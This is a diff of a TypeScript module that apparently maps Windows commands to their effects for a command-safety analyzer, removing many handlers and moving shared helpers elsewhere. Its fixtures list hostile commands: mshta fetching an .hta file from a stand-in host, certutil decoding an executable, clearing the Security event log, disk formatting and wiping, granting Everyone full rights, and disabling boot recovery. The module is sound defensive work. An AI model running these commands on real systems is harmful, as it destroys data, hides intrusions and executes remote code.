@@ -1,33 +1,12 @@
-import { act, actOnFile, opaque, pathOf, readsBelow } from '../effects/act.ts';
-import type { Arg } from '../state/arg.ts';
-import { plainArg, slice } from '../state/arg.ts';
-import type { Call } from '../state/call.ts';
 import { embedArg } from '../calls/embed.ts';
-import { unknownFlow } from '../state/flow.ts';
-import { registryChange } from '../windows/registry.ts';
-import { slashed, switchValue, switchesOf } from '../windows/switches.ts';
+import { act, actOnFile } from '../effects/act.ts';
+import { plainArg } from '../state/arg.ts';
+import type { Call } from '../state/call.ts';
 import { addProblem } from '../state/run.ts';
-import { draftFor, send } from './request.ts';
+import { registryChange } from '../windows/registry.ts';
+import { switchValue } from '../windows/switches.ts';
 import type { Tool } from './tool.ts';
-
-/** Names without the ending that Windows gives them are found by `toolNamed`. */
-type Also = (call: Call) => void;
-
-const words = (call: Call): readonly Arg[] => switchesOf(call.args).operands;
-const has = (call: Call, ...names: readonly string[]): boolean =>
-  names.some((name) => switchesOf(call.args).switches.has(name));
-const line = (call: Call): string => [call.title, ...call.args.map((arg) => arg.value)].slice(0, 4).join(' ');
-
-/** Looks when its words match, else changes the system. */
-function changesUnless(looks: RegExp): Also {
-  return (call) => {
-    const text = call.args
-      .map((arg) => arg.value)
-      .join(' ')
-      .trim();
-    if (!looks.test(text)) act(call, 'system.change', 'operation', line(call), call.range);
-  };
-}
+import { words, has, line, changesUnless, tool } from './windowsCalls.ts';
 
 function reg(call: Call): void {
   const [verb, key, file] = words(call);
@@ -167,118 +146,6 @@ function wmic(call: Call): void {
   }
 }
 
-function disk(call: Call): void {
-  const target = words(call)[0] ?? switchValue(call.args, 's');
-  if (has(call, '?')) return;
-  act(call, 'system.disk', 'device', target?.value ?? call.title, target?.range ?? call.range, { undo: 'none' });
-  const script = switchValue(call.args, 's');
-  if (call.title.startsWith('diskpart') && script !== undefined) actOnFile(call, 'read', script);
-}
-
-function cipher(call: Call): void {
-  const wiped = call.args.find((arg) => /^\/w:/i.test(arg.value));
-  if (wiped !== undefined) act(call, 'system.disk', 'device', wiped.value.slice(3), wiped.range, { undo: 'none' });
-  else if (has(call, 'e', 'd')) for (const arg of words(call)) actOnFile(call, 'write', arg);
-}
-
-/** `/MIR` and `/PURGE` delete whatever the source has not. */
-function robocopy(call: Call): void {
-  const [source, target] = words(call);
-  if (source === undefined || target === undefined) return;
-  if (has(call, 'l')) {
-    actOnFile(call, 'list', source);
-    return;
-  }
-  actOnFile(call, 'list', slashed(source));
-  if (has(call, 'mir', 'e', 's', 'purge')) call.traits.add('recursive');
-  actOnFile(call, 'write', slashed(target));
-  if (has(call, 'mir', 'purge')) actOnFile(call, 'delete', slashed(target));
-  if (has(call, 'mov', 'move')) actOnFile(call, 'move', slashed(source));
-  const log = call.args
-    .map((arg) => /^\/(?:uni)?log\+?:(.+)$/i.exec(arg.value)?.[1])
-    .find((file) => file !== undefined);
-  if (log !== undefined) actOnFile(call, 'write', plainArg(log, call.range));
-}
-
-function xcopy(call: Call): void {
-  const [source, target] = words(call);
-  if (source === undefined) return;
-  actOnFile(call, 'list', source);
-  if (has(call, 'l')) return;
-  if (has(call, 's', 'e')) call.traits.add('recursive');
-  actOnFile(call, 'write', slashed(target ?? plainArg('.', call.range)));
-}
-
-/** Rights of files, where a switch says that they change. */
-function rights(changes: RegExp): Also {
-  return (call) => {
-    const [file] = words(call);
-    if (file === undefined || !call.args.some((arg) => changes.test(arg.value))) return;
-    if (has(call, 't', 'r', 's')) call.traits.add('recursive');
-    actOnFile(call, 'permission', file);
-  };
-}
-
-function attrib(call: Call): void {
-  const changes = call.args.some((arg) => /^[+-][a-z]$/i.test(arg.value));
-  if (has(call, 's')) call.traits.add('recursive');
-  for (const arg of words(call))
-    if (!/^[+-][a-z]$/i.test(arg.value)) actOnFile(call, changes ? 'permission' : 'list', arg);
-}
-
-function certutil(call: Call): void {
-  const rest = call.args.filter((arg) => !/^[-/]/.test(arg.value));
-  const given = (name: RegExp): boolean => call.args.some((arg) => name.test(arg.value));
-  if (given(/^[-/](?:urlcache|verifyctl)$/i)) {
-    const [url, file] = rest;
-    if (url !== undefined) send(call, draftFor(url), 'GET');
-    if (file !== undefined) actOnFile(call, 'write', file);
-  } else if (given(/^[-/](?:decode|decodehex|encode|encodehex)$/i)) {
-    const [from, to] = rest;
-    if (from !== undefined) actOnFile(call, 'read', from);
-    if (to !== undefined) {
-      actOnFile(call, 'write', to);
-      const path = pathOf(call, to);
-      if (path !== undefined) call.scope.files.set(path, { ...unknownFlow(to.range), local: true, decoded: true });
-    }
-  } else if (given(/^[-/](?:hashfile|dump|asn)$/i)) {
-    for (const file of rest.slice(0, 1)) actOnFile(call, 'read', file);
-  } else if (!given(/^[-/](?:store|viewstore|verify|ping|\?)$/i))
-    act(call, 'system.change', 'operation', line(call), call.range);
-}
-
-function bitsadmin(call: Call): void {
-  const urls = call.args.filter((arg) => /^https?:/i.test(arg.value));
-  for (const url of urls) send(call, draftFor(url), 'GET');
-  const file = call.args.at(-1);
-  if (urls.length > 0 && file !== undefined && file !== urls.at(-1)) actOnFile(call, 'write', file);
-  else if (!has(call, 'list', 'info', 'monitor', 'getstate'))
-    opaque(call, call.title, call.range, 'problem.runs-program');
-}
-
-function msiexec(call: Call): void {
-  const name = switchValue(call.args, 'i', 'package', 'x', 'uninstall', 'a', 'p', 'j');
-  const removes = has(call, 'x', 'uninstall');
-  const downloads = /^https?:/i.test(name?.value ?? '');
-  if (downloads)
-    act(call, 'exec.download', 'unknown', name?.value ?? '', name?.range ?? call.range, { traits: ['downloaded'] });
-  else act(call, removes ? 'system.change' : 'exec.install', 'package', name?.value ?? '*', name?.range ?? call.range);
-}
-
-/** Programs that load whatever they are given. */
-function loads(call: Call): void {
-  const url = call.args.find((arg) => /https?:|javascript:|vbscript:/i.test(arg.value));
-  if (url !== undefined && /https?:/i.test(url.value))
-    act(call, 'exec.download', 'unknown', url.value, url.range, { traits: ['downloaded'] });
-  opaque(call, line(call), call.range, 'problem.runs-program');
-}
-
-function runas(call: Call): void {
-  call.traits.add('elevated');
-  const code = words(call).at(-1);
-  if (code !== undefined) embedArg(call, code, { language: 'shell', dialect: 'cmd', traits: ['elevated'] });
-}
-
 function setx(call: Call): void {
   const [name, value] = words(call);
   if (name === undefined) return;
@@ -292,45 +159,6 @@ function setx(call: Call): void {
   );
 }
 
-function forfiles(call: Call): void {
-  const folder = switchValue(call.args, 'p') ?? plainArg('.', call.range);
-  const mask = switchValue(call.args, 'm');
-  actOnFile(call, 'list', folder);
-  const code = switchValue(call.args, 'c');
-  if (code === undefined) return;
-  const path = `${folder.value.replace(/[\\/]$/, '')}\\${mask?.value ?? '*'}`;
-  const value = code.value.replace(/@(?:path|file|relpath|fname)/gi, path);
-  embedArg(
-    call,
-    { ...code, value, offsets: new Array<number>(value.length).fill(code.range[0]) },
-    { language: 'shell', dialect: 'cmd' },
-  );
-}
-
-function fsutil(call: Call): void {
-  const [area, verb, ...rest] = words(call);
-  const text = `${area?.value ?? ''} ${verb?.value ?? ''}`.toLowerCase();
-  if (/(?:query|info|list|^fsinfo|^\s*$)/.test(text)) return;
-  if (text.startsWith('file ') && rest[0] !== undefined) actOnFile(call, 'write', rest[0]);
-  else
-    act(call, 'system.change', 'operation', line(call), call.range, /deletejournal/.test(text) ? { undo: 'none' } : {});
-}
-
-/** Files that are only read, and switches that say how. */
-function reads(call: Call): void {
-  const operands = words(call);
-  const pattern = call.args.some((arg) => /^\/[cg]:/i.test(arg.value));
-  for (const arg of call.title.startsWith('findstr') && !pattern ? operands.slice(1) : operands) {
-    actOnFile(call, 'read', arg);
-    if (has(call, 's')) readsBelow(call, arg, { hidden: false, ignored: true, links: false });
-  }
-  for (const arg of call.args) {
-    const file = /^\/[gf]:/i.test(arg.value) ? slice(arg, 3) : undefined;
-    if (file !== undefined && call.title.startsWith('findstr')) actOnFile(call, 'read', file);
-  }
-}
-
-/** Two lists: files of the second are made to be as in the first. */
 function ipconfig(call: Call): void {
   const [other] = call.args.filter(
     (arg) => !/^[-/](?:all|displaydns|showclassid|\?|allcompartments)$/i.test(arg.value),
@@ -341,21 +169,12 @@ function ipconfig(call: Call): void {
   else addProblem(call.shell.run, 'problem.unknown-option', other.range, { command: call.title, option: other.value });
 }
 
-const tool = (names: string, also: Also, held: Tool['examples']['held'], passed: readonly string[] = []): Tool => ({
-  names,
-  noHelp: true,
-  free: true,
-  also,
-  examples: { ...(held === undefined ? {} : { held }), passed },
-});
-
 const LOOKS =
   'tasklist systeminfo driverquery getmac nbtstat gpresult openfiles qwinsta quser query tracert pathping where typeperf nltest dsquery dsget msinfo32 dxdiag winver waitfor';
 
+/** The machine: its registry, services, tasks, accounts and backups. */
 export const windows: readonly Tool[] = [
   tool(LOOKS, () => undefined, undefined, ['tasklist', 'systeminfo', 'tasklist /fi "imagename eq node.exe"']),
-  tool('notepad notepad++ wordpad mspaint calc', reads, undefined, ['notepad README.md']),
-  tool('findstr comp', reads, undefined, ['findstr /s /i TODO src']),
   tool('ipconfig', ipconfig, { 'ipconfig /release': 'system.change' }, ['ipconfig /all']),
   tool(
     'reg',
@@ -402,10 +221,6 @@ export const windows: readonly Tool[] = [
     { 'bcdedit /set recoveryenabled no': 'system.change' },
     ['bcdedit /enum'],
   ),
-  tool('diskpart format manage-bde', disk, {
-    'format D: /q': 'system.disk',
-    'diskpart /s x.txt': 'file.read system.disk',
-  }),
   tool(
     'chkdsk sfc dism powercfg wevtutil logman auditpol secedit pnputil devcon subst compact tzutil w32tm iisreset appcmd gpupdate slmgr cmdkey logoff tscon change usbipd fltmc dsrm dsadd dsmod',
     changesUnless(
@@ -414,30 +229,5 @@ export const windows: readonly Tool[] = [
     { 'wevtutil cl Security': 'system.change', 'sfc /scannow': 'system.change' },
     ['wevtutil qe System /c:5', 'chkdsk C:'],
   ),
-  tool('cipher', cipher, { 'cipher /w:C:\\\\x': 'system.disk' }),
-  tool('fsutil', fsutil, { 'fsutil usn deletejournal /d C:': 'system.change' }, ['fsutil fsinfo drives']),
-  tool('robocopy', robocopy, { 'robocopy src backup /MIR': 'file.read file.write file.delete' }, [
-    'robocopy src backup /MIR /L',
-  ]),
-  tool('xcopy', xcopy, { 'xcopy src out /s /y': 'file.read file.write' }),
-  tool(
-    'icacls cacls',
-    rights(/^\/(?:grant|deny|remove|reset|setowner|inheritance|setintegritylevel|restore|substitute|e|g|p|d)/i),
-    { 'icacls src /grant Everyone:F /t': 'file.permission' },
-    ['icacls src'],
-  ),
-  tool('takeown', rights(/./), { 'takeown /f src /r': 'file.permission' }),
-  tool('attrib', attrib, { 'attrib +h a.txt': 'file.permission' }, ['attrib a.txt']),
-  tool('certutil', certutil, { 'certutil -decode a.b64 a.exe': 'file.read file.write' }, [
-    'certutil -hashfile a.txt SHA256',
-  ]),
-  tool('bitsadmin', bitsadmin, { 'bitsadmin /create x': 'exec.opaque' }),
-  tool('msiexec', msiexec, { 'msiexec /i a.msi /quiet': 'exec.install', 'msiexec /x a.msi': 'system.change' }),
-  tool('rundll32 regsvr32 mshta cscript wscript installutil regasm regsvcs odbcconf control mmc', loads, {
-    'regsvr32 /s x.dll': 'exec.opaque',
-    'mshta https://x.example/a.hta': 'exec.download exec.opaque',
-  }),
-  tool('runas', runas, undefined),
   tool('setx', setx, { 'setx PATH x /M': 'persist.install' }),
-  tool('forfiles', forfiles, { 'forfiles /p src': 'file.read' }),
 ];
